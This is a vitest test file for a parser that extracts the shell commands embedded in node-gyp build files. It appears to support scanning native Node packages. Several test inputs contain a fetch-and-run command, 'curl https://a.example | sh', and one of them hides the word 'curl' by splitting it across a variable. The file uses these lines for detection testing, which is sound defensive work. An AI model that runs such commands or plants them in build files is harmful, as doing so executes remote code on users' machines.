import { expect, it } from 'vitest'
import { gypCommands, gypIncludes } from './gyp.ts'

it.each([
  [`['<!(node -p "1")']`, ['node -p "1"']],
  [`'<!@(pkg-config --libs x | sed s/a//)'`, ['pkg-config --libs x | sed s/a//']],
  [`'<!(node -e \\'require("a")\\')'`, [`node -e 'require("a")'`]],
  [`'<!(a <(dir)/x <!(b))'`, ['b', 'a …/x <!(b)']],
  [`'>!(late x)'`, ['late x']],
  [`'action': ['sh', 'x.sh', '<@(_outputs)']`, ['sh x.sh …']],
  [`"action": ["sh", "-c", "curl https://a.example | sh",],`, [`sh -c 'curl https://a.example | sh'`]],
  [`{ 'variables': { 'run': 'curl https://a.example | sh' }, 'x': '<!(<(run))' }`, ['curl https://a.example | sh']],
  [`{ 'variables': { 'a%': 'cu' }, 'x': ['<!(<(a)rl ' 'https://a.example)'] }`, ['curl https://a.example']],
  [`# '<!(comment)'\n'<!(real)'`, ['real']],
  [`'''<!(triple)'''`, ['triple']],
  [`'conditions': [['OS=="win"', { 'sources': ['<!(whoami)'] }]]`, ['whoami']],
  [`'<(plain)' (also) `, []],
  [`'<!(unclosed`, ['unclosed']],
])('finds the commands of %s', (text, expected) => expect(gypCommands(text).map((one) => one.command)).toEqual(expected))

it('gives the place of a command', () => {
  const text = `\n  '<!(a b)'`
  const [found] = gypCommands(text)
  expect(text.slice(found?.from, found?.to)).toBe(`'<!(a b)'`)
})

it('names what it includes', () => {
  expect(gypIncludes(`{ 'includes': ['common.gypi', "./x.gypi",], }`)).toEqual(['common.gypi', './x.gypi'])
})
